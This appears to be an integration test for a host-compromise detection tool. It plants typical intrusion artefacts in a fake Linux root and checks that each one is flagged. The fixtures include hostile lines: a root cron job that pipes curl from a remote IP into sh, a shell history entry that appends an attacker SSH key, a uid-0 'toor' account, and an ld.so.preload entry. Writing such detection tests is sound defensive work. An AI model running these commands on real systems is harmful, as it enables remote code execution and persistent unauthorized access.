/**
 * Automated investigation end to end without a device: the agent's real collectors build a real investigation
 * package from a temp root this test controls (a fake /, /proc included), the server's package
 * reader unzips it, and the rules engine must report exactly the planted artefacts, and nothing
 * for the same root without them.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createPackageView, evaluateRules } from '@cordon/core';
import { buildInvestigationPackage } from '../packages/agent/src/executors/collect-investigation-package/index.js';
import { createReadFs } from '../packages/agent/src/platform/read-fs.js';
import { createZipWriter } from '../packages/agent/src/platform/zip.js';
import type { Exec } from '../packages/agent/src/platform/types.js';
import { unzipText } from '../packages/server/src/investigations/package-reader.js';

let root: string;
beforeEach(() => { root = mkdtempSync(join(tmpdir(), 'cordon-inv-root-')); });
afterEach(() => { rmSync(root, { recursive: true, force: true }); });

function tree(files: Record<string, string | { link: string }>): void {
  for (const [path, content] of Object.entries(files)) {
    const full = join(root, path);
    mkdirSync(dirname(full), { recursive: true });
    if (typeof content === 'string') writeFileSync(full, content);
    else symlinkSync(content.link, full);
  }
}

const stat = (pid: number, comm: string, ppid: number) => `${pid} (${comm}) S ${ppid} ${pid} ${pid} 0 -1 4194560 1 0 0 0 0 0 0 0 20 0 1 0 500 1000 100 18446744073709551615\n`;
function proc(pid: number, comm: string, uid: number, exe: string, cmdline: string, fds: Record<string, string> = {}): Record<string, string | { link: string }> {
  return {
    [`proc/${pid}/stat`]: stat(pid, comm, 1),
    [`proc/${pid}/status`]: `Name:\t${comm}\nUid:\t${uid}\t${uid}\t${uid}\t${uid}\n`,
    [`proc/${pid}/cmdline`]: `${cmdline.split(' ').join('\0')}\0`,
    [`proc/${pid}/exe`]: { link: exe },
    ...Object.fromEntries(Object.entries(fds).map(([fd, target]) => [`proc/${pid}/fd/${fd}`, { link: target }])),
  };
}

const PASSWD = 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n';
const TCP_HEADER = '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n';
const tcpLine = (n: number, port: number, state: string, uid: number, inode: number) =>
  `   ${n}: 00000000:${port.toString(16).toUpperCase().padStart(4, '0')} 00000000:0000 ${state} 00000000:00000000 00:00000000 00000000  ${uid}        0 ${inode} 1 0 100 0 0 10 0\n`;

/** A small clean host: init and sshd listening on 22, cron jobs from packages, one user with history. */
function cleanHost(): void {
  tree({
    'etc/passwd': PASSWD,
    'etc/shadow': 'root:!:19000::::::\nalice:$6$x$y:19500::::::\n',
    'etc/group': 'root:x:0:\nalice:x:1000:\n',
    'etc/crontab': 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n',
    'etc/cron.daily/logrotate': '#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n',
    'home/alice/.bash_history': 'ls\ncat ~/.ssh/authorized_keys\nssh-copy-id bob@host\n',
    'proc/stat': 'cpu 1 2 3\nbtime 1700000000\n',
    ...proc(1, 'systemd', 0, '/usr/lib/systemd/systemd', '/sbin/init'),
    ...proc(410, 'sshd', 0, '/usr/sbin/sshd', '/usr/sbin/sshd -D', { '3': 'socket:[1001]' }),
    'proc/net/tcp': TCP_HEADER + tcpLine(0, 22, '0A', 0, 1001),
  });
}

const noTools: Exec = async () => { throw new Error('no tools in a test root'); };

async function investigate(indicators: string[] = []) {
  const dest = join(root, '..', `${root.split('/').pop()}.zip`);
  try {
    await buildInvestigationPackage({ fs: createReadFs(root), exec: noTools, zip: createZipWriter(), destPath: dest, signal: new AbortController().signal, now: () => Date.UTC(2026, 10, 22) });
    const files = await unzipText(readFileSync(dest));
    const { findings, errors } = evaluateRules(createPackageView({ files, indicators: { sha256: indicators } }));
    expect(errors).toEqual([]);
    return findings.map((f) => `${f.ruleId} ${f.hit.filePath ?? f.hit.accountName ?? f.hit.commandLine}${f.hit.sha1 ? ` sha1=${f.hit.sha1}` : ''}`).sort();
  } finally {
    rmSync(dest, { force: true });
  }
}

describe('automated investigation over a planted root', () => {
  it('should find nothing on a clean root', async () => {
    cleanHost();
    expect(await investigate()).toEqual([]);
  });

  it('should find exactly the planted artefacts', async () => {
    cleanHost();
    // A host binary resolves through the absolute link, so its hash is real and can be an indicator.
    const sh = '/bin/sh';
    const bad = createHash('sha256').update(readFileSync(sh)).digest('hex');
    const sha1 = createHash('sha1').update(readFileSync(sh)).digest('hex');
    tree({
      'etc/passwd': `${PASSWD}toor:x:0:0::/root:/bin/sh\n`,
      'etc/ld.so.preload': '/usr/local/lib/libhide.so\n',
      'etc/cron.d/sys': '*/10 * * * * root curl -fsSL http://198.51.100.7/s.sh | sh\n',
      'var/spool/cron/crontabs/alice': '*/5 * * * * /home/alice/.cache/upd >/dev/null 2>&1\n',
      'home/alice/.bash_history': 'ls\necho ssh-rsa AAAAB3Nza attacker >> ~/.ssh/authorized_keys\n',
      ...proc(100, 'kworker', 33, '/tmp/.x/miner', '/tmp/.x/miner -o pool'),
      ...proc(200, 'agentx', 0, '/usr/local/bin/agentx (deleted)', 'agentx'),
      ...proc(300, 'bd', 1000, '/home/alice/bd', '/home/alice/bd -l 4444', { '3': 'socket:[2001]' }),
      ...proc(500, 'sh', 0, sh, 'sh -c sleep'),
      'proc/net/tcp': TCP_HEADER + tcpLine(0, 22, '0A', 0, 1001) + tcpLine(1, 4444, '0A', 1000, 2001),
    });
    expect(await investigate([bad])).toEqual([
      'autorun-unmanaged-executable /home/alice/.cache/upd',
      'cron-remote-fetch-execute root',
      'history-authorized-keys-write alice',
      `known-bad-hash /bin/sh sha1=${sha1}`, // the package's ExecutableSha1: what remediation quarantines by
      'ld-so-preload-entry /usr/local/lib/libhide.so',
      'listener-unexpected-binary /home/alice/bd',
      'process-deleted-executable /usr/local/bin/agentx',
      'process-running-from-temp /tmp/.x/miner',
      'uid0-non-root-account toor',
    ]);
  });
});
